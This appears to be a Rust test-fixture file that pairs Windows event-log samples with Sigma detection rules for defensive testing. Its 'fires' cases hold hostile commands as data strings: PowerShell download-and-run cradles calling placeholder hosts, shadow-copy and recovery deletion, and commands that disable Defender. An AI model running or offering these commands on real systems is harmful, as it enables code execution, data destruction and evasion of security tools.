//! For every rule shipped under `rules/sigma/`: events that must make it
//! fire, and close look-alikes that must not. The same table drives the
//! in-memory test and the generated EVTX fixtures.

#![allow(dead_code)]

/// One event to generate.
#[derive(Debug, Clone)]
pub struct Ev {
    pub channel: &'static str,
    pub provider: &'static str,
    pub event_id: u32,
    /// Seconds after the case's start time.
    pub at: i64,
    pub fields: Vec<(&'static str, String)>,
}

/// A rule (by title) with what fires it and what must not.
pub struct Case {
    pub title: &'static str,
    pub fires: Vec<Ev>,
    pub quiet: Vec<Ev>,
}

const SYSMON: (&str, &str) = (
    "Microsoft-Windows-Sysmon/Operational",
    "Microsoft-Windows-Sysmon",
);
const SECURITY: (&str, &str) = ("Security", "Microsoft-Windows-Security-Auditing");
const SYSTEM_SCM: (&str, &str) = ("System", "Service Control Manager");
const DEFENDER: (&str, &str) = (
    "Microsoft-Windows-Windows Defender/Operational",
    "Microsoft-Windows-Windows Defender",
);
const PS_OPERATIONAL: (&str, &str) = (
    "Microsoft-Windows-PowerShell/Operational",
    "Microsoft-Windows-PowerShell",
);

fn ev(src: (&'static str, &'static str), event_id: u32, fields: &[(&'static str, &str)]) -> Ev {
    Ev {
        channel: src.0,
        provider: src.1,
        event_id,
        at: 0,
        fields: fields.iter().map(|(k, v)| (*k, v.to_string())).collect(),
    }
}

fn at(mut e: Ev, secs: i64) -> Ev {
    e.at = secs;
    e
}

fn proc(image: &str, cmd: &str) -> Ev {
    ev(
        SYSMON,
        1,
        &[
            ("Image", image),
            ("CommandLine", cmd),
            ("ParentImage", r"C:\Windows\explorer.exe"),
            ("User", r"CORP\alice"),
        ],
    )
}

fn proc_4688(image: &str, cmd: &str) -> Ev {
    ev(
        SECURITY,
        4688,
        &[
            ("NewProcessName", image),
            ("CommandLine", cmd),
            ("ParentProcessName", r"C:\Windows\System32\cmd.exe"),
        ],
    )
}

fn failed(ip: &str, user: &str, secs: i64) -> Ev {
    at(
        ev(
            SECURITY,
            4625,
            &[
                ("TargetUserName", user),
                ("IpAddress", ip),
                ("LogonType", "3"),
            ],
        ),
        secs,
    )
}

fn logon(ip: &str, user: &str, logon_type: &str, secs: i64) -> Ev {
    at(
        ev(
            SECURITY,
            4624,
            &[
                ("TargetUserName", user),
                ("IpAddress", ip),
                ("LogonType", logon_type),
            ],
        ),
        secs,
    )
}

pub fn cases() -> Vec<Case> {
    vec![
        Case {
            title: "Event Log Cleared",
            fires: vec![
                ev(SECURITY, 1102, &[("SubjectUserName", "admin")]),
                ev(
                    ("System", "Microsoft-Windows-Eventlog"),
                    104,
                    &[("Channel", "System")],
                ),
            ],
            quiet: vec![
                ev(SECURITY, 1100, &[]),
                ev(("System", "Some-Other-Provider"), 104, &[]),
            ],
        },
        Case {
            title: "Service Installed From an Unusual Path",
            fires: vec![
                ev(
                    SYSTEM_SCM,
                    7045,
                    &[
                        ("ServiceName", "updsvc"),
                        ("ImagePath", r"C:\ProgramData\upd\svc.exe"),
                    ],
                ),
                ev(
                    SYSTEM_SCM,
                    7045,
                    &[
                        ("ServiceName", "x"),
                        (
                            "ImagePath",
                            r"%COMSPEC% /b /c start /b /min powershell -nop -w hidden",
                        ),
                    ],
                ),
            ],
            quiet: vec![ev(
                SYSTEM_SCM,
                7045,
                &[
                    ("ServiceName", "Spooler2"),
                    ("ImagePath", r"C:\Windows\System32\spoolsv.exe"),
                ],
            )],
        },
        Case {
            title: "Shadow Copies or Backups Deleted",
            fires: vec![
                proc(
                    r"C:\Windows\System32\vssadmin.exe",
                    "vssadmin.exe Delete Shadows /All /Quiet",
                ),
                proc(
                    r"C:\Windows\System32\wbem\WMIC.exe",
                    "wmic shadowcopy delete",
                ),
                proc_4688(
                    r"C:\Windows\System32\bcdedit.exe",
                    "bcdedit /set {default} recoveryenabled No",
                ),
            ],
            quiet: vec![proc(
                r"C:\Windows\System32\vssadmin.exe",
                "vssadmin list shadows",
            )],
        },
        Case {
            title: "PowerShell With an Encoded Command or a Download Cradle",
            fires: vec![
                proc(
                    r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
                    "powershell -nop -w hidden -enc SQBFAFgA",
                ),
                proc(
                    r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
                    "powershell /EncodedCommand SQBFAFgA",
                ),
                proc(
                    r"C:\Program Files\PowerShell\7\pwsh.exe",
                    "pwsh -c \"IEX (New-Object Net.WebClient).DownloadString('http://x/a')\"",
                ),
            ],
            quiet: vec![proc(
                r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
                "powershell -File C:\\scripts\\backup.ps1 -Verbose",
            )],
        },
        Case {
            title: "PowerShell Script Block Downloads and Runs Code",
            fires: vec![ev(
                PS_OPERATIONAL,
                4104,
                &[(
                    "ScriptBlockText",
                    "IEX (New-Object Net.WebClient).DownloadString('http://10.1.1.1/p.ps1')",
                )],
            )],
            quiet: vec![ev(
                PS_OPERATIONAL,
                4104,
                &[("ScriptBlockText", "Get-ChildItem C:\\ | Sort-Object Length")],
            )],
        },
        Case {
            title: "Remote Desktop Logon From Another Host",
            fires: vec![logon("192.168.10.23", "alice", "10", 0)],
            quiet: vec![
                logon("127.0.0.1", "alice", "10", 0),
                logon("192.168.10.23", "alice", "2", 0),
            ],
        },
        Case {
            title: "Executable Written to an Administrative Share",
            fires: vec![ev(
                SECURITY,
                5145,
                &[
                    ("ShareName", r"\\*\ADMIN$"),
                    ("RelativeTargetName", "evil.exe"),
                    ("AccessList", "%%4417\n\t\t\t\t%%4418"),
                ],
            )],
            quiet: vec![ev(
                SECURITY,
                5145,
                &[
                    ("ShareName", r"\\*\ADMIN$"),
                    ("RelativeTargetName", "evil.exe"),
                    ("AccessList", "%%4416"),
                ],
            )],
        },
        Case {
            title: "PsExec-Style Remote Execution Service",
            fires: vec![ev(
                SYSTEM_SCM,
                7045,
                &[
                    ("ServiceName", "PSEXESVC"),
                    ("ImagePath", r"%SystemRoot%\PSEXESVC.exe"),
                ],
            )],
            quiet: vec![ev(
                SYSTEM_SCM,
                7045,
                &[
                    ("ServiceName", "PrintSvc"),
                    ("ImagePath", r"C:\Windows\System32\svchost.exe -k print"),
                ],
            )],
        },
        Case {
            title: "Password Brute Force From One Source",
            fires: (0..25)
                .map(|i| failed("203.0.113.7", "administrator", i * 5))
                .collect(),
            quiet: (0..5)
                .map(|i| failed("203.0.113.7", "administrator", i * 5))
                .collect(),
        },
        Case {
            title: "Password Spraying From One Source",
            fires: (0..12)
                .map(|i| {
                    failed(
                        "203.0.113.8",
                        [
                            "anna", "ben", "carl", "dora", "emil", "fritz", "gina", "hans", "ida",
                            "jan", "karl", "lena",
                        ][i as usize],
                        i * 30,
                    )
                })
                .collect(),
            quiet: (0..12)
                .map(|i| failed("203.0.113.8", "anna", i * 30))
                .collect(),
        },
        Case {
            title: "Successful Logon After Brute Force",
            fires: (0..21)
                .map(|i| failed("198.51.100.4", "administrator", i))
                .chain([logon("198.51.100.4", "administrator", "3", 600)])
                .collect(),
            quiet: (0..21)
                .map(|i| failed("198.51.100.4", "administrator", i))
                .chain([logon("198.51.100.9", "administrator", "3", 600)])
                .collect(),
        },
        Case {
            title: "Account Added to an Administrators Group",
            fires: vec![ev(
                SECURITY,
                4732,
                &[
                    ("TargetSid", "S-1-5-32-544"),
                    ("TargetUserName", "Administratoren"),
                    ("MemberSid", "S-1-5-21-1-2-3-1105"),
                ],
            )],
            quiet: vec![ev(
                SECURITY,
                4732,
                &[
                    ("TargetSid", "S-1-5-32-555"),
                    ("TargetUserName", "Remote Desktop Users"),
                ],
            )],
        },
        Case {
            title: "User Account Created",
            fires: vec![ev(SECURITY, 4720, &[("TargetUserName", "svc_backup2")])],
            quiet: vec![ev(SECURITY, 4741, &[("TargetUserName", "WS042$")])],
        },
        Case {
            title: "Scheduled Task Created That Runs From a Writable Folder or a Script Host",
            fires: vec![ev(
                SECURITY,
                4698,
                &[
                    ("TaskName", r"\Update"),
                    (
                        "TaskContent",
                        "<Exec><Command>C:\\Users\\Public\\upd.exe</Command></Exec>",
                    ),
                ],
            )],
            quiet: vec![ev(
                SECURITY,
                4698,
                &[
                    ("TaskName", r"\Defrag"),
                    (
                        "TaskContent",
                        "<Exec><Command>%windir%\\system32\\defrag.exe</Command></Exec>",
                    ),
                ],
            )],
        },
        Case {
            title: "Scheduled Task Created With schtasks",
            fires: vec![proc(
                r"C:\Windows\System32\schtasks.exe",
                r"schtasks /create /tn upd /tr C:\ProgramData\u.exe /sc onstart /ru SYSTEM",
            )],
            quiet: vec![proc(
                r"C:\Windows\System32\schtasks.exe",
                "schtasks /query /fo LIST",
            )],
        },
        Case {
            title: "Microsoft Defender Protection Disabled or Weakened",
            fires: vec![
                ev(DEFENDER, 5001, &[]),
                ev(
                    DEFENDER,
                    5007,
                    &[(
                        "NewValue",
                        r"HKLM\SOFTWARE\Microsoft\Windows Defender\Exclusions\Paths\C:\Temp = 0x0",
                    )],
                ),
            ],
            quiet: vec![ev(
                DEFENDER,
                5007,
                &[(
                    "NewValue",
                    r"HKLM\SOFTWARE\Microsoft\Windows Defender\Signature Updates\SignatureType = 0x1",
                )],
            )],
        },
        Case {
            title: "Defender Disabled or Excluded From the Command Line",
            fires: vec![proc(
                r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
                "powershell Set-MpPreference -DisableRealtimeMonitoring $true",
            )],
            quiet: vec![proc(
                r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
                "powershell Get-MpPreference",
            )],
        },
    ]
}

/// A day of an ordinary office PC and its domain controller: what the
/// shipped rules must stay silent on.
pub fn baseline() -> Vec<Ev> {
    let mut v = vec![
        logon("10.1.2.30", "alice", "2", 0),
        logon("10.1.2.30", "alice", "3", 60),
        logon("10.1.2.11", "svc_backup", "5", 120),
        logon("-", "SYSTEM", "5", 121),
        at(
            ev(
                SECURITY,
                4634,
                &[("TargetUserName", "alice"), ("LogonType", "3")],
            ),
            180,
        ),
        at(ev(SECURITY, 4672, &[("SubjectUserName", "SYSTEM")]), 181),
        at(failed("10.1.2.30", "alice", 200), 200),
        at(failed("10.1.2.30", "alice", 230), 230),
        proc(r"C:\Windows\explorer.exe", r"C:\Windows\Explorer.EXE"),
        proc(
            r"C:\Program Files\Google\Chrome\Application\chrome.exe",
            r#""C:\Program Files\Google\Chrome\Application\chrome.exe" --type=renderer"#,
        ),
        proc(
            r"C:\Windows\System32\svchost.exe",
            r"C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule",
        ),
        proc(
            r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
            r"powershell.exe -NoProfile -File C:\Scripts\inventory.ps1",
        ),
        proc(r"C:\Windows\System32\vssadmin.exe", "vssadmin list shadows"),
        proc(
            r"C:\Windows\System32\schtasks.exe",
            "schtasks /query /fo LIST /v",
        ),
        proc_4688(
            r"C:\Windows\System32\notepad.exe",
            r"notepad.exe C:\Users\alice\Documents\todo.txt",
        ),
        proc_4688(r"C:\Windows\System32\ipconfig.exe", "ipconfig /all"),
        ev(
            SYSTEM_SCM,
            7045,
            &[
                ("ServiceName", "Google Update Service"),
                (
                    "ImagePath",
                    r#""C:\Program Files (x86)\Google\Update\GoogleUpdate.exe" /svc"#,
                ),
                ("StartType", "auto start"),
                ("AccountName", "LocalSystem"),
            ],
        ),
        ev(
            SYSTEM_SCM,
            7036,
            &[("param1", "Windows Update"), ("param2", "running")],
        ),
        ev(
            SECURITY,
            4698,
            &[
                ("TaskName", r"\Microsoft\Windows\Defrag\ScheduledDefrag"),
                (
                    "TaskContent",
                    r"<Exec><Command>%windir%\system32\defrag.exe</Command><Arguments>-c -h -o -$</Arguments></Exec>",
                ),
            ],
        ),
        ev(SECURITY, 4741, &[("TargetUserName", "WS077$")]),
        ev(
            SECURITY,
            4732,
            &[
                ("TargetSid", "S-1-5-32-555"),
                ("TargetUserName", "Remotedesktopbenutzer"),
                ("MemberSid", "S-1-5-21-1-2-3-1107"),
            ],
        ),
        ev(
            SECURITY,
            5145,
            &[
                ("ShareName", r"\\*\SYSVOL"),
                ("RelativeTargetName", r"corp.local\Policies\GPT.INI"),
                ("AccessList", "%%4416"),
            ],
        ),
        ev(
            DEFENDER,
            2000,
            &[("Current Signature Version", "1.401.100.0")],
        ),
        ev(
            DEFENDER,
            5007,
            &[(
                "NewValue",
                r"HKLM\SOFTWARE\Microsoft\Windows Defender\Signature Updates\SignaturesLastUpdated = 0x1",
            )],
        ),
        ev(
            PS_OPERATIONAL,
            4104,
            &[(
                "ScriptBlockText",
                "Get-Service | Where-Object Status -eq 'Running' | Export-Csv C:\\Temp\\svc.csv",
            )],
        ),
    ];
    for (i, e) in v.iter_mut().enumerate() {
        e.at = e.at.max(i as i64 * 90);
    }
    v
}
